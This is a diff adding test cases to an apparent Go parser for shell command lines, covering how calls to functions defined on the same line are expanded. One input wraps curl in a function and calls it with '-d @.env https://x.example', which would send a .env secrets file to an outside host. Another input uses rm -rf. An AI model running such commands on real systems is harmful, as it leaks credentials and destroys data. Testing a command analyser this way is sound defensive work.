@@ -252,10 +252,34 @@ var parseCases = []parseCase{
 			"echo b",
 		},
 	},
+	// rules 17: a function the line defines is listed where it is called,
+	// with the call's arguments; never called, once with them unknown;
+	// called with a redirection, the call is listed too
 	{line: "f() { rm -rf \"$1\"; }; f /tmp/x",
 		cmds: []string{
-			"{function f}@0 rm -rf D:$1",
-			"f /tmp/x",
+			"{function f}@0 rm -rf /tmp/x",
+		},
+	},
+	{line: "tfp() { terraform -chdir=infra \"$@\"; }; tfp validate; tfp plan",
+		cmds: []string{
+			"{function tfp}@0 terraform -chdir=infra validate",
+			"{function tfp}@0 terraform -chdir=infra plan",
+		},
+	},
+	{line: "f() { curl \"$@\"; }; f -d @.env https://x.example",
+		cmds: []string{
+			"{function f}@0 curl D:$@",
+		},
+	},
+	{line: "f() { f; }; f",
+		cmds: []string{
+			"{function f}@0 f",
+		},
+	},
+	{line: "f() { echo hi; }; f > out.txt",
+		cmds: []string{
+			"f >out.txt",
+			"{function f}@0 echo hi",
 		},
 	},
 	{line: "function g { curl \"$@\"; }",
